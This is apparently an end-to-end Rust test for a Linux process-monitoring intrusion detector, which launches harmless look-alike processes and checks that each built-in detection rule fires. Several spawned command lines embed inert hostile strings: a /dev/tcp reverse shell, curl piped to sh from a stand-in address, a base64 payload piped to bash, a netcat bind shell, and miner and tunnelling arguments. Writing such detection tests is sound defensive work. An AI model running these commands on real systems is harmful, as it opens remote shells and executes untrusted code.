//! End to end: real processes that look like intrusions, a real agent and procmond, and the
//! exact built-in rule ids that must fire for each of them.
//!
//! Runs as root (CI does): procmond needs its capabilities to hash other users' executables,
//! and the setuid case needs root to create a setuid-root file.

use std::collections::{BTreeMap, BTreeSet};
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use daemoneye_e2e::{Agent, copy_exe, wait_for};
use serde_json::Value;

/// Processes started by a test, killed when it ends.
#[derive(Default)]
struct Suspects {
    children: Vec<Child>,
    /// Processes that are not our children any more (their parent exited).
    orphans: Vec<u32>,
}

impl Suspects {
    /// Starts `program` with `argv0` and `args` (through bash's `exec -a`, so that the command
    /// line shows `argv0`), returns its pid.
    fn exec_as(&mut self, program: &Path, argv0: &str, args: &str) -> u32 {
        let script = format!("exec -a '{argv0}' '{}' {args}", program.display());
        self.spawn(Command::new("/bin/bash").args(["-c", &script]))
    }

    fn spawn(&mut self, command: &mut Command) -> u32 {
        let child = command
            .stdin(Stdio::piped())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("starting a suspect process");
        let pid = child.id();
        self.children.push(child);
        pid
    }
}

impl Drop for Suspects {
    fn drop(&mut self) {
        for child in &mut self.children {
            let _ = child.kill();
            let _ = child.wait();
        }
        for pid in &self.orphans {
            if let Ok(pid) = i32::try_from(*pid) {
                let _ = nix::sys::signal::kill(
                    nix::unistd::Pid::from_raw(pid),
                    nix::sys::signal::Signal::SIGKILL,
                );
            }
        }
    }
}

/// The pid of the child of `parent` whose name is `name`, once it exists.
fn child_named(parent: u32, name: &str) -> u32 {
    wait_for(
        &format!("a {name} child of {parent}"),
        Duration::from_secs(10),
        || {
            std::fs::read_dir("/proc").ok()?.find_map(|entry| {
                let pid: u32 = entry.ok()?.file_name().to_str()?.parse().ok()?;
                let ppid = daemoneye_e2e::proc_status(pid, "PPid")?;
                let comm = std::fs::read_to_string(format!("/proc/{pid}/comm")).ok()?;
                (ppid == parent.to_string() && comm.trim() == name).then_some(pid)
            })
        },
    )
}

/// pid -> the rule ids whose alerts name it, from alerts in INTERFACE.md's JSON shape.
fn rules_by_pid(alerts: &[Value]) -> BTreeMap<u64, BTreeSet<String>> {
    let mut by_pid: BTreeMap<u64, BTreeSet<String>> = BTreeMap::new();
    for alert in alerts {
        let rule = alert["rule_id"].as_str().unwrap().to_owned();
        for row in alert["rows"].as_array().unwrap() {
            if let Some(pid) = row
                .get("pid")
                .or_else(|| row.get("ProcessId"))
                .and_then(Value::as_u64)
            {
                by_pid.entry(pid).or_default().insert(rule.clone());
            }
        }
    }
    by_pid
}

fn ids(list: &[&str]) -> BTreeSet<String> {
    list.iter().map(|id| (*id).to_owned()).collect()
}

#[test]
fn each_builtin_rule_fires_on_its_real_process_and_only_once() {
    assert!(
        nix::unistd::geteuid().is_root(),
        "this test needs root (CI runs it as root)"
    );
    // Outside /tmp and without hidden components, so that only the intended rules fire; 0755
    // so that uid 1 can reach the setuid file.
    let base = tempfile::Builder::new()
        .prefix("daemoneye-e2e-")
        .tempdir_in("/var/lib")
        .unwrap();
    std::fs::set_permissions(base.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let tmp = tempfile::Builder::new()
        .prefix("de-e2e-")
        .tempdir_in("/tmp")
        .unwrap();
    std::fs::set_permissions(tmp.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let b = base.path();
    let sleep = "/bin/sleep";
    let mut suspects = Suspects::default();
    let mut expected: BTreeMap<u32, BTreeSet<String>> = BTreeMap::new();

    // DE-LNX-0001: the executable is deleted while it runs.
    let deleted = copy_exe(sleep, &b.join("del"), "sleeper");
    let pid = suspects.spawn(Command::new(&deleted).arg("300"));
    wait_for("the exec", Duration::from_secs(10), || {
        std::fs::read_link(format!("/proc/{pid}/exe"))
            .ok()
            .filter(|exe| exe == &deleted)
    });
    std::fs::remove_file(&deleted).unwrap();
    expected.insert(pid, ids(&["DE-LNX-0001"]));

    // DE-LNX-0002: runs from /tmp.
    let in_tmp = copy_exe(sleep, &tmp.path().join("drop"), "runner");
    expected.insert(
        suspects.spawn(Command::new(in_tmp).arg("300")),
        ids(&["DE-LNX-0002"]),
    );

    // DE-LNX-0003: runs from a hidden directory.
    let hidden = copy_exe(sleep, &b.join(".cache-x"), "runner");
    expected.insert(
        suspects.spawn(Command::new(hidden).arg("300")),
        ids(&["DE-LNX-0003"]),
    );

    // DE-LNX-0004: a fake kernel thread with an executable.
    let kworker = copy_exe(sleep, &b.join("kw"), "kworker");
    expected.insert(
        suspects.exec_as(&kworker, "[kworker/0:2]", "300"),
        ids(&["DE-LNX-0004"]),
    );

    // DE-LNX-0005: a system daemon's name from an unexpected path.
    let sshd = copy_exe(sleep, &b.join("sd"), "sshd");
    expected.insert(
        suspects.spawn(Command::new(sshd).arg("300")),
        ids(&["DE-LNX-0005"]),
    );

    // DE-LNX-0006: a shell under a process named like a web server.
    let nginx = copy_exe("/bin/bash", &b.join("web"), "nginx");
    let web = suspects.spawn(Command::new(nginx).args(["-c", "sh -c 'sleep 300; true'; true"]));
    expected.insert(child_named(web, "sh"), ids(&["DE-LNX-0006"]));

    // DE-LNX-0007: a reverse-shell command line (that connects to nothing).
    expected.insert(
        suspects.spawn(Command::new("/bin/bash").args([
            "-c",
            "sleep 300; true # bash -i >& /dev/tcp/10.255.255.1/4444 0>&1",
        ])),
        ids(&["DE-LNX-0007"]),
    );

    // DE-LNX-0008: a download piped to a shell.
    expected.insert(
        suspects.spawn(Command::new("/bin/sh").args([
            "-c",
            "sleep 300; true # curl -fsSL http://203.0.113.9/i.sh | sh",
        ])),
        ids(&["DE-LNX-0008"]),
    );

    // DE-LNX-0009: a base64-decoded payload piped to a shell.
    expected.insert(
        suspects.spawn(Command::new("/bin/sh").args([
            "-c",
            "sleep 300; true # echo ZWNobyBoaQ== | base64 -d | bash",
        ])),
        ids(&["DE-LNX-0009"]),
    );

    // DE-LNX-0010: one name, two different executables.
    let twin_a = copy_exe(sleep, &b.join("h1"), "svc-helper");
    let twin_b = copy_exe("/bin/cat", &b.join("h2"), "svc-helper");
    expected.insert(
        suspects.spawn(Command::new(twin_a).arg("300")),
        ids(&["DE-LNX-0010"]),
    );
    expected.insert(
        suspects.spawn(&mut Command::new(twin_b)),
        ids(&["DE-LNX-0010"]),
    );

    // DE-LNX-0011: a setuid-root file in an unusual place, run by uid 1.
    let escalate = copy_exe(sleep, &b.join("suid"), "escalate");
    std::fs::set_permissions(&escalate, std::fs::Permissions::from_mode(0o4755)).unwrap();
    expected.insert(
        suspects.spawn(
            Command::new("setpriv")
                .args(["--reuid=1", "--regid=1", "--clear-groups"])
                .arg(&escalate)
                .arg("300"),
        ),
        ids(&["DE-LNX-0011"]),
    );

    // DE-LNX-0012: a miner's name and arguments.
    let xmrig = copy_exe(sleep, &b.join("m"), "xmrig");
    expected.insert(
        suspects.exec_as(
            &xmrig,
            "xmrig --donate-level 1 -o stratum+tcp://pool.invalid:3333",
            "300",
        ),
        ids(&["DE-LNX-0012"]),
    );

    // DE-LNX-0013: a tunnelling tool.
    let chisel = copy_exe(sleep, &b.join("t"), "chisel");
    expected.insert(
        suspects.exec_as(&chisel, "chisel client 10.255.255.1:8080 R:socks", "300"),
        ids(&["DE-LNX-0013"]),
    );

    // DE-LNX-0014: a root process from /tmp whose parent is gone (it also runs from /tmp).
    let orphan = copy_exe(sleep, &tmp.path().join("o"), "orphan");
    let pid_file = tmp.path().join("orphan.pid");
    let status = Command::new("setsid")
        .args(["/bin/sh", "-c"])
        .arg(format!(
            "'{}' 300 </dev/null >/dev/null 2>&1 & echo $! > '{}'",
            orphan.display(),
            pid_file.display()
        ))
        .status()
        .unwrap();
    assert!(status.success());
    let orphan_pid: u32 = std::fs::read_to_string(&pid_file)
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    suspects.orphans.push(orphan_pid);
    expected.insert(orphan_pid, ids(&["DE-LNX-0002", "DE-LNX-0014"]));

    // DE-LNX-0015: a process that keeps one core busy. A plain busy loop gets 90 % of a core
    // only on an idle machine: on two cores beside a debug-built procmond hashing this test's
    // large executables, it got less and the rule rightly did not fire (5 of 5 CI runs; here,
    // with a load average of 9, `sh -c 'while :; do :; done'` measured 11 to 13 %). Under
    // SCHED_FIFO it preempts every ordinary task on its core, and the kernel's real-time
    // throttling (sched_rt_runtime_us, 950 ms per second by default) leaves it about 95 %
    // whatever else runs (93.9 and 95.5 % measured beside that loop at the same load): the
    // rule sees a measured figure that does not depend on the machine being idle. bash's
    // $SECONDS ends the loop after 300 s even if this test is killed before it can (a loop
    // that forked `date` would spend its time in children, which its own CPU time omits).
    expected.insert(
        suspects.spawn(Command::new("chrt").args([
            "--fifo",
            "1",
            "/bin/bash",
            "-c",
            "while [ $SECONDS -lt 300 ]; do :; done",
        ])),
        ids(&["DE-LNX-0015"]),
    );

    // DE-LNX-0016: a bind-shell listener's command line.
    expected.insert(
        suspects.exec_as(Path::new(sleep), "nc -lvnp 4444 -e /bin/sh", "300"),
        ids(&["DE-LNX-0016"]),
    );

    // DE-LNX-0017: a security tool that stops between two scans (started here, killed below).
    let auditd = copy_exe(sleep, &b.join("sec"), "auditd");
    let mut auditd = Command::new(auditd).arg("300").spawn().unwrap();

    let agent = Agent::start("[collector]\nuser = \"daemon\"\n", 1.0);
    // Two scans: cpu_percent needs a previous scan.
    wait_for("two processed scans", Duration::from_secs(60), || {
        (agent.logged("scan processed").len() >= 2).then_some(())
    });
    let auditd_pid = auditd.id();
    auditd.kill().unwrap();
    auditd.wait().unwrap();
    let seen = agent.logged("scan processed").len();
    wait_for("two more scans", Duration::from_secs(60), || {
        (agent.logged("scan processed").len() >= seen + 2).then_some(())
    });
    // The exit lands in the scan after the kill, or in the one after that when the kill fell
    // inside a scan that had already read the process; and an alert is printed by the
    // delivery task a moment after its scan is logged as processed. Wait for the alert itself
    // (bounded), so that neither makes the check below run early.
    let deadline = std::time::Instant::now() + Duration::from_secs(30);
    while std::time::Instant::now() < deadline
        && !rules_by_pid(&agent.printed_alerts())
            .get(&u64::from(auditd_pid))
            .is_some_and(|rules| rules.contains("DE-LNX-0017"))
    {
        std::thread::sleep(Duration::from_millis(50));
    }

    let printed = agent.printed_alerts();
    let by_pid = rules_by_pid(&printed);
    let mut wrong = Vec::new();
    for (pid, want) in &expected {
        let got = by_pid.get(&u64::from(*pid)).cloned().unwrap_or_default();
        if &got != want {
            wrong.push(format!("pid {pid}: expected {want:?}, got {got:?}"));
        }
    }
    let stopped = by_pid
        .get(&u64::from(auditd_pid))
        .cloned()
        .unwrap_or_default();
    if !stopped.contains("DE-LNX-0017") {
        wrong.push(format!(
            "auditd pid {auditd_pid}: expected DE-LNX-0017, got {stopped:?}"
        ));
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));

    // Four scans saw the deleted executable; its alert was printed once, and the store
    // counts the folded repeats.
    let deleted_pid = expected
        .iter()
        .find(|(_, rules)| rules.contains("DE-LNX-0001"))
        .map(|(pid, _)| u64::from(*pid))
        .unwrap();
    let raised: Vec<&Value> = printed
        .iter()
        .filter(|alert| {
            alert["rule_id"] == "DE-LNX-0001"
                && alert["rows"][0]["pid"].as_u64() == Some(deleted_pid)
        })
        .collect();
    assert_eq!(raised.len(), 1, "{raised:#?}");
    let mut ids_printed: Vec<&str> = printed.iter().map(|a| a["id"].as_str().unwrap()).collect();
    let total = ids_printed.len();
    ids_printed.sort_unstable();
    ids_printed.dedup();
    assert_eq!(ids_printed.len(), total, "an alert id was printed twice");

    let listed = agent.cli(&[
        "alerts",
        "list",
        "--rule",
        "DE-LNX-0001",
        "--format",
        "json",
    ]);
    assert!(listed.status.success(), "{listed:?}");
    let listed: Vec<Value> = serde_json::from_slice(&listed.stdout).unwrap();
    let stored = listed
        .iter()
        .find(|alert| alert["id"] == raised[0]["id"])
        .expect("the raised alert is stored");
    assert!(stored["suppressed"].as_u64().unwrap() >= 2, "{stored:#}");
    assert_eq!(stored["acked"], false);
    let id = stored["id"].as_str().unwrap();
    let ack = agent.cli(&["alerts", "ack", id]);
    assert!(ack.status.success(), "{ack:?}");
    let unknown = agent.cli(&["alerts", "ack", &"0".repeat(32)]);
    assert_eq!(unknown.status.code(), Some(1), "{unknown:?}");
    // Not an alert id at all: refused before the agent is asked.
    let malformed = agent.cli(&["alerts", "ack", "0000"]);
    assert_eq!(malformed.status.code(), Some(2), "{malformed:?}");

    let rules = agent.cli(&["rules", "list", "--format", "json"]);
    let rules: Vec<Value> = serde_json::from_slice(&rules.stdout).unwrap();
    assert!(rules.len() >= 17);
    assert!(
        rules.iter().all(|rule| rule["status"] == "ok"),
        "{rules:#?}"
    );
}
